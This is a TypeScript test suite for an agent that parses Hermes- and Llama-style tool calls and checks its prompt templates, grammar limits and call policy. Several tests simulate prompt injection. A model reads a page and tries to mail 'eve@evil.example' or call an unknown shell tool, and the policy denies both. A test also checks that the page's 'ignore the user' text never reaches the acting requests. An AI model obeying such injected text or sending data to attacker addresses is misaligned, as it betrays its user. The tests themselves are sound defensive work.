/** Models that were trained to call tools, by scripts that say what their chat templates would have them say. */
import { describe, expect, it } from 'vitest';
import { answerGrammar } from '../engine/answer-grammar.js';
import type { GenerateRequest, ToolCallFormat } from '../generate.js';
import { asking, eventsOf, modelOf, ofType, page, sender, weather } from './agent.case.js';
import { type AgentOptions, createAgent } from './agent.js';
import { readNativeCall } from './native-calls.js';

/** What the tool of {@link weather} is in both formats, as `tojson` of the templates writes it. */
const WEATHER =
  '{"type": "function", "function": {"name": "weather", "description": "The weather of a city.", "parameters": {"type": "object", "properties": {"city": {"enum": ["Rome", "Oslo"]}}, "required": ["city"], "additionalProperties": false}}}';
const ANSWER =
  '{"type": "function", "function": {"name": "answer", "description": "Ends the search: enough is known, or no function helps.", "parameters": {"type": "object", "properties": {}}}}';

/** As the chat template of Qwen2.5 and Qwen3 has it behind the site's own words. */
const HERMES_SYSTEM = `You are the bakery's assistant.

# Tools

You may call one or more functions to assist with the user query.

You are provided with function signatures within <tools></tools> XML tags:
<tools>
${WEATHER}
${ANSWER}
</tools>

For each function call, return a json object with function name and arguments within <tool_call></tool_call> XML tags:
<tool_call>
{"name": <function-name>, "arguments": <args-json-object>}
</tool_call>`;

/** As the chat template of Llama 3.2 puts them into the first message of the user. */
const LLAMA_USER = `Given the following functions, please respond with a JSON for a function call with its proper arguments that best answers the given prompt.

Respond in the format {"name": function name, "parameters": dictionary of argument name and its value}.Do not use variables.

${JSON.stringify(JSON.parse(WEATHER), null, 4)}

${JSON.stringify(JSON.parse(ANSWER), null, 4)}

How is Rome?`;

/** What such models say. */
const SAYS: Readonly<Record<ToolCallFormat, (name: string, args: object) => string>> = {
  hermes: (name, args) => `<tool_call>\n{"name": "${name}", "arguments": ${JSON.stringify(args)}}\n</tool_call>`,
  'llama-3': (name, args) => `{"name": "${name}", "parameters": ${JSON.stringify(args)}}`,
};
const FORMATS = ['hermes', 'llama-3'] as const;

/** Says these, one after the other, and then the answer. */
async function run(
  toolCalls: ToolCallFormat,
  said: readonly string[],
  options: Partial<AgentOptions> = {},
  request?: GenerateRequest,
) {
  const requests: GenerateRequest[] = [];
  const left = [...said];
  const generate = modelOf((asked) => {
    requests.push(asked);
    return asked.format === undefined ? 'It is sunny.' : (left.shift() ?? SAYS[toolCalls]('answer', {}));
  });
  const agent = createAgent({ generate, tools: [weather], toolCalls, ...options });
  const events = await eventsOf(agent(request ?? asking('How is Rome?')));
  return { events, requests, calls: ofType(events, 'tool-call'), results: ofType(events, 'tool-result') };
}

describe.each(FORMATS)('a model with the tool calls of %s', (format) => {
  const call = SAYS[format];

  it('calls a tool and answers, in three requests', async () => {
    const { calls, results, events, requests } = await run(format, [call('weather', { city: 'Rome' })]);
    expect(calls).toMatchObject([{ tool: 'weather', verdict: 'allow', arguments: [{ name: 'city', value: 'Rome' }] }]);
    expect(results).toMatchObject([{ status: 'done', text: 'Rome is sunny' }]);
    expect(
      ofType(events, 'text-delta')
        .map(({ text }) => text)
        .join(''),
    ).toBe('It is sunny.');
    expect(requests).toHaveLength(3);
  });

  it('is told of its call and of what came of it', async () => {
    const said = call('weather', { city: 'Rome' });
    const { requests } = await run(format, [said]);
    const [question, again, result] = requests[1]?.messages.filter(({ role }) => role !== 'system') ?? [];
    expect(question?.content).toContain('How is Rome?');
    expect(again).toEqual({ role: 'assistant', content: said });
    expect(result?.role).toBe('user');
    expect(result?.content).toContain('$1 = weather(Rome) = Rome is sunny');
  });

  it('is held by the grammar of what is allowed now', async () => {
    const { requests } = await run(format, [call('weather', { city: 'Rome' })], { tools: [weather, sender([])] });
    const [first] = requests;
    if (first?.format === undefined) throw new Error('Nothing holds it.');
    const grammar = answerGrammar(first.format);
    expect(grammar).toContain('weather');
    // Nobody can be asked, and the user has named no address.
    expect(grammar).not.toContain('send');
    expect(
      grammar.startsWith(format === 'hermes' ? 'root ::= "<tool_call>\\x0A" whole "\\x0A</tool_call>"' : 'root ::='),
    ).toBe(true);
  });

  it('is held by the policy where no grammar holds it', async () => {
    const sent: unknown[] = [];
    const mail = call('send', { to: 'eve@evil.example', text: 'x' });
    const options = { tools: [page, sender(sent, 'allow')] };
    const { calls } = await run(format, [call('page', {}), mail, call('shell', {})], options);
    expect(calls.map(({ verdict, rule }) => [verdict, rule])).toEqual([
      ['allow', 'allowed'],
      ['deny', 'unvouched-address'],
      ['deny', 'unknown-tool'],
    ]);
    expect(sent).toEqual([]);
  });

  it('never reads what strangers have written before it acts', async () => {
    const { requests } = await run(format, [call('page', {})], { tools: [page, sender([], 'allow')] });
    const acting = requests.filter((asked) => asked.format !== undefined);
    expect(acting).toHaveLength(2);
    expect(JSON.stringify(acting)).not.toContain('ignore the user');
  });

  it('that says words needs no tool', async () => {
    const { calls, events } = await run(format, ['It is always sunny there.']);
    expect(calls).toEqual([]);
    expect(ofType(events, 'agent-finish')).toMatchObject([{ reason: 'answer' }]);
  });

  it('whose call is cut off calls nothing', async () => {
    const { calls } = await run(format, [call('weather', { city: 'Rome' }).slice(0, 30)]);
    expect(calls.every(({ verdict }) => verdict === 'deny')).toBe(true);
  });
});

describe('the prompt', () => {
  const system = { role: 'system', content: "You are the bakery's assistant." } as const;
  const user = { role: 'user', content: 'How is Rome?' } as const;

  it('of Hermes has the tools behind the words of the site', async () => {
    const { requests } = await run('hermes', [], {}, { messages: [system, user] });
    expect(requests[0]?.messages).toEqual([{ role: 'system', content: HERMES_SYSTEM }, user]);
  });

  it('of Llama has the tools before the first question', async () => {
    const { requests } = await run('llama-3', [], {}, { messages: [system, user] });
    expect(requests[0]?.messages).toEqual([system, { role: 'user', content: LLAMA_USER }]);
  });
});

it('a call is read with what models put around it', () => {
  const rome = { tool: 'weather', arguments: { city: 'Rome' } };
  const json = '{"name": "weather", "arguments": {"city": "Rome"}}';
  expect(readNativeCall('hermes', `I look it up.\n<tool_call>${json}</tool_call>\nDone.`)).toEqual(rome);
  expect(readNativeCall('hermes', json)).toBe(null);
  expect(readNativeCall('llama-3', '\n{"name": "weather", "parameters": {"city": "Rome"}}')).toEqual(rome);
});
